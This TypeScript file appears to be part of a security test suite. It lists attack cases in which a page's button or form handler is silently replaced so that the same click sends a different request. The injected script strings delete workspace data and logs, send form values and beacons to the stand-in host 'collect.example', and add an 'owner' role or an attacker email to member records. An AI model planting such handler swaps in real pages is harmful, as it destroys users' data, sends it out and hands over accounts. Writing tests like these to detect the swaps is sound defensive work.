import type { Attack, CallName } from '../attack.js';

/** Keeps a button as it is, and gives it another handler. */
const handler = (id: string, body: string): string => `{
  document.getElementById('${id}').addEventListener('click', (event) => { event.stopImmediatePropagation(); ${body} }, true);
}`;
const xhr = (method: string, path: string): string =>
  `const request = new XMLHttpRequest(); request.open('${method}', '${path}'); request.send();`;
const onSubmit = (body: string): string =>
  `window.addEventListener('submit', (event) => { event.preventDefault(); event.stopImmediatePropagation(); const data = Object.fromEntries(new FormData(event.target)); ${body} }, true);`;

const swapped: readonly (readonly [mechanism: string, name: string, call: CallName, script: string])[] = [
  [
    'handler sends DELETE',
    'fetch deletes',
    'archive',
    handler('archive', `fetch('/api/workspace', { method: 'DELETE' });`),
  ],
  [
    'handler sends DELETE',
    'a request object deletes',
    'export',
    handler('export', `fetch(new Request('/api/workspace', { method: 'DELETE' }));`),
  ],
  ['handler sends DELETE', 'XMLHttpRequest deletes', 'archive', handler('archive', xhr('DELETE', '/api/workspace'))],
  [
    'handler sends DELETE',
    'a later task deletes',
    'export',
    handler('export', `setTimeout(() => fetch('/api/workspace', { method: 'DELETE' }), 50);`),
  ],
  [
    'handler sends elsewhere',
    'another address',
    'archive',
    handler('archive', `fetch('/api/workspace/publish', { method: 'POST' });`),
  ],
  [
    'handler sends elsewhere',
    'another address by XMLHttpRequest',
    'export',
    handler('export', xhr('POST', '/api/transfers')),
  ],
  [
    'handler sends elsewhere',
    'another method',
    'archive',
    handler('archive', `fetch('/api/workspace/archive', { method: 'PUT' });`),
  ],
  [
    'handler sends elsewhere',
    'another host',
    'export',
    handler('export', `fetch('https://collect.example/api/report', { method: 'POST' });`),
  ],
  [
    'path of a report',
    'DELETE to a path that names events',
    'archive',
    handler('archive', `fetch('/api/events', { method: 'DELETE' });`),
  ],
  [
    'path of a report',
    'POST that deletes logs',
    'export',
    handler('export', `fetch('/api/logs/delete', { method: 'POST' });`),
  ],
  [
    'by a beacon',
    'a beacon deletes',
    'archive',
    handler('archive', `navigator.sendBeacon('/api/workspace/delete', 'x');`),
  ],
  [
    'by a beacon',
    'a beacon sends elsewhere',
    'export',
    handler('export', `navigator.sendBeacon('https://collect.example/report', 'x');`),
  ],
  [
    'form sends elsewhere',
    'the values go to another address',
    'member',
    onSubmit(`fetch('/api/admins', { method: 'POST', body: JSON.stringify(data) });`),
  ],
  [
    'form sends elsewhere',
    'the values go to another host',
    'member',
    onSubmit(`fetch('https://collect.example/api/members', { method: 'POST', body: JSON.stringify(data) });`),
  ],
  [
    'form sends more',
    'a field is added',
    'member',
    onSubmit(`fetch('/api/members', { method: 'POST', body: JSON.stringify({ ...data, role: 'owner' }) });`),
  ],
  [
    'form sends more',
    'a value is another one',
    'member',
    onSubmit(
      `fetch('/api/members', { method: 'POST', body: JSON.stringify({ ...data, email: 'mallory@example.com' }) });`,
    ),
  ],
];

export const wire: readonly Attack[] = swapped.map(([mechanism, name, call, after]) => ({
  name: `same button, other request: ${name}`,
  mechanism,
  call,
  after,
}));
